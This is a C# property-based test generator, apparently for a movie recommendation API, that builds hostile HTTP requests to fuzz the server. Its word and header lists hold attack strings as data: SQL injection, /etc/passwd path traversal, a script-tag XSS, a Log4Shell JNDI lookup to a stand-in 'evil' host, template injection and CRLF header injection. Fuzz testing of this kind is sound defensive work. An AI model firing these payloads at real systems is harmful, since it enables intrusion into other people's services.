using System.Globalization;
using System.Text;
using System.Text.Json;
using CsCheck;

namespace Matinee.Api.Tests.Server;

/// <summary>A request that nobody means well with.</summary>
internal sealed record HostileRequest(string Method, string Target, string[] Headers, byte[] Body)
{
    private static readonly string[] Methods =
    [
        "GET",
        "PUT",
        "POST",
        "DELETE",
        "PATCH",
        "OPTIONS",
        "HEAD",
        "TRACE",
        "BREW",
    ];

    private static readonly string[] Words =
    [
        "",
        "0",
        "-1",
        "1",
        "7",
        "2147483647",
        "2147483648",
        "99999999999999999999",
        "NaN",
        "Infinity",
        "1e308",
        "0x10",
        "null",
        "true",
        "'; DROP TABLE users; --",
        "1 OR 1=1",
        "\" UNION SELECT * FROM ratings --",
        "../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e/",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil}",
        "{{7*7}}",
        "a\r\nSet-Cookie: x=1",
        "%0d%0aSet-Cookie:%20x=1",
        "\0",
        "\u202e\u2028\ufeff",
        "🎬🍿",
        "İstanbul ß ﬁ",
        "A\u0301",
        "imdb:tt0133093",
        "imdb:",
        "tmdb:-5",
        "tmdb:603:1",
        "movie",
        "!Comedy",
        "unseen",
        new('x', 3_000),
        new('9', 400),
    ];

    private static readonly string[] Segments =
    [
        "api",
        "users",
        "movies",
        "recommendations",
        "ratings",
        "ratings:batch",
        "hidden",
        "allow-list",
        "events",
        "export",
        "similar",
        "prediction",
        "groups",
        "onboarding",
        "search",
        "model",
        "health",
        "openapi",
        "docs",
    ];

    private static readonly string[] Names =
    [
        "limit",
        "offset",
        "diversity",
        "popularity",
        "genre",
        "year_min",
        "year_max",
        "min_ratings",
        "include",
        "only",
        "explain",
        "query",
        "sort",
        "cursor",
        "q",
        "user_id",
        "rated",
        "skipped",
        "by",
        "constructor",
        "__proto__",
    ];

    // "user 7" is what no request may change: writes go to other ids.
    private static readonly string[] Routes =
    [
        "/api/recommendations/{}",
        "/api/recommendations",
        "/api/groups/recommendations",
        "/api/users/{}",
        "/api/users/{}/export",
        "/api/users/{}/ratings",
        "/api/users/{}/ratings/{}",
        "/api/users/{}/ratings:batch",
        "/api/users/{}/hidden/{}",
        "/api/users/{}/hidden",
        "/api/users/{}/allow-list",
        "/api/users/{}/events",
        "/api/movies",
        "/api/movies/{}",
        "/api/movies/{}/similar",
        "/api/movies/{}/prediction",
        "/api/search",
        "/api/ask",
        "/mcp",
        "/api/onboarding/movies",
        "/api/model",
        "/openapi/v1.json",
        "/docs/{}",
        "/health/{}",
    ];

    private static readonly Gen<string> Word = Gen.Frequency(
        (6, Gen.OneOf(Words)),
        (2, Gen.String[Gen.Char['\0', '\uffff'], 0, 20]),
        (1, Gen.Double.Select(value => value.ToString("R", CultureInfo.InvariantCulture))),
        (1, Gen.Int.Select(value => value.ToString(CultureInfo.InvariantCulture)))
    );

    private static readonly Gen<string> Path = Gen.Frequency(
        (6, Gen.Select(Gen.OneOf(Routes), Word, Word, (route, first, second) => Fill(Fill(route, first), second))),
        (2, Gen.OneOf(Segments).Array[0, 5].Select(parts => "/" + string.Join('/', parts))),
        (1, Word.Select(word => "/" + Escape(word)))
    );

    private static readonly Gen<string> Query = Gen.Select(
            Gen.OneOf(Names),
            Word,
            (name, word) => $"{name}={Escape(word)}"
        )
        .Array[0, 4]
        .Select(pairs => pairs.Length == 0 ? "" : "?" + string.Join('&', pairs));

    private static readonly string[] Fields =
    [
        "ratings",
        "rating",
        "movieId",
        "movieIds",
        "timestamp",
        "events",
        "type",
        "key",
        "members",
        "userId",
        "strategy",
        "title",
        "year",
        "genres",
        "tags",
        "imdbId",
        "tmdbId",
        "plot",
        "hidden",
        "only",
        "text",
        "$type",
    ];

    private static readonly Gen<byte[]> JsonBody = Gen.Recursive<string>(
            (depth, self) =>
                depth > 4
                    ? Leaf()
                    : Gen.Frequency(
                        (2, Leaf()),
                        (
                            3,
                            Gen.Select(Gen.OneOf(Fields), self, (name, value) => $"\"{name}\":{value}")
                                .Array[0, 4]
                                .Select(members => $"{{{string.Join(',', members)}}}")
                        ),
                        (2, self.Array[0, 4].Select(items => $"[{string.Join(',', items)}]"))
                    )
        )
        .Select(text => Encoding.UTF8.GetBytes(text));

    private static readonly Gen<byte[]> AnyBody = Gen.Frequency(
        (5, JsonBody),
        (1, Gen.Byte.Array[0, 200]),
        (1, Gen.Const(Array.Empty<byte>())),
        (1, Gen.Const(Encoding.UTF8.GetBytes(new string('[', 50_000)))),
        (1, Gen.Const(Encoding.UTF8.GetBytes($"{{\"ratings\":[{new string(' ', 1_100_000)}]}}")))
    );

    private static readonly Gen<string[]> SomeHeaders = Gen.OneOf(
        "Content-Type: application/json",
        "Content-Type: application/json; charset=utf-16",
        "Content-Type: text/plain",
        "Content-Type: ",
        "Accept: */*;q=x",
        "Accept-Encoding: zzz",
        "X-Forwarded-For: 1.2.3.4, ';--",
        "X-HTTP-Method-Override: DELETE",
        "Origin: null",
        "Referer: javascript:alert(1)",
        "Cookie: a=\u0001",
        "If-None-Match: *",
        "Range: bytes=0-0,-1",
        "Expect: 100-continue",
        "Authorization: Bearer x.y.z",
        "Content-Encoding: gzip"
    ).Array[0, 3];

    public static Gen<HostileRequest> Any { get; } =
        Gen.Select(
            Gen.Frequency((8, Gen.OneOf(Methods[..4])), (1, Gen.OneOf(Methods))),
            Gen.Select(Path, Query, (path, query) => path + query),
            SomeHeaders,
            AnyBody,
            (method, target, headers, body) => new HostileRequest(method, target, WithJson(headers), body)
        );

    /// <summary>As it goes over the wire.</summary>
    public byte[] Bytes()
    {
        string head =
            $"{Method} {Target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
            + string.Concat(Headers.Select(header => header + "\r\n"))
            + (Method is "GET" or "HEAD" ? "\r\n" : $"Content-Length: {Body.Length}\r\n\r\n");
        return Method is "GET" or "HEAD"
            ? Encoding.Latin1.GetBytes(head)
            : [.. Encoding.Latin1.GetBytes(head), .. Body];
    }

    public override string ToString() =>
        $"{Method} {Target[..Math.Min(200, Target.Length)]} [{string.Join(" | ", Headers)}] {Encoding.UTF8.GetString(Body)[..Math.Min(200, Encoding.UTF8.GetString(Body).Length)]}";

    private static Gen<string> Leaf() =>
        Gen.Frequency(
            (3, Word.Select(word => JsonSerializer.Serialize(word))),
            (
                2,
                Gen.OneOf("null", "true", "1", "7", "4.5", "-1", "1e999", "0.25", "99999999999999999999", "\"watched\"")
            ),
            (1, Gen.OneOf("NaN", "{", "]", "\"\\ud800\"", "01"))
        );

    private static string[] WithJson(string[] headers) =>
        headers.Any(header => header.StartsWith("Content-Type", StringComparison.Ordinal))
            ? headers
            : [.. headers, "Content-Type: application/json"];

    private static string Fill(string route, string word)
    {
        int place = route.IndexOf("{}", StringComparison.Ordinal);
        // The user that must stay as it is.
        string safe = word.Trim() is "7" or "07" ? "70000000" : word;
        return place < 0 ? route : route[..place] + Escape(safe) + route[(place + 2)..];
    }

    // What can't stand in a request line at all is escaped; the rest goes as it is half of the time by its own nature.
    private static string Escape(string word)
    {
        var text = new StringBuilder();
        foreach (byte one in Encoding.UTF8.GetBytes(word))
        {
            bool plain = one is > 0x20 and < 0x7f && one is not ((byte)'#' or (byte)'?' or (byte)'&');
            text.Append(plain ? ((char)one).ToString() : $"%{one:X2}");
        }

        return text.ToString();
    }
}
